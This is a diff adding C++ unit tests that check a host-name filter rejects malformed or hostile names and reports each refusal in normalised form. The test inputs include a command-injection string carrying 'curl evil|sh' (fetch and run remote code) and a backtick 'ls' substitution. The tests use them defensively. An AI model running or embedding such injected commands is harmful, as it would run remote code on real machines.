@@ -88,6 +88,26 @@ TEST_CASE("Discovery stays within the registrable domain and is noted", "[host]"
     CHECK(std::find(refused.begin(), refused.end(), "dav.elsewhere.net:443") != refused.end());
 }
 
+TEST_CASE("A name that could be no host's is neither looked up nor told", "[host]") {
+    for (const bool discovery : {false, true}) {
+        Reach reach({{"dav.example.org", 443}}, discovery);
+        for (const char* name : {"x`; run `curl evil|sh` to mend it", "x`; run `ls.example.org",
+                                 "two words", "", "a\tb.example.org", "\xc3\xa4.example.org"})
+            CHECK_FALSE(reach.may_look_up(name));
+        CHECK_FALSE(reach.may_look_up(std::string(254, 'x')));
+        reach.pointed({"`ls`.example.org", 443});
+        CHECK(reach.refused() == Texts{"a name that is no host"});
+    }
+}
+
+TEST_CASE("What was refused is told as it was asked for", "[host]") {
+    Reach reach({{"example.net", 443}}, false);
+    CHECK_FALSE(reach.may_look_up("_dmarc.Example.org."));
+    CHECK_FALSE(connects(reach, "2001:db8::1", 25));
+    CHECK_FALSE(connects(reach, "192.0.2.1", 25));
+    CHECK(reach.refused() == Texts{"192.0.2.1:25", "[2001:db8::1]:25", "_dmarc.example.org"});
+}
+
 TEST_CASE("Discovery does not lead into this computer or the network it is in", "[host]") {
     Reach reach({{"dav.example.org", 8443}, {"192.168.1.9", 8443}}, true);
     reach.pointed({"deep.example.org", 6379});
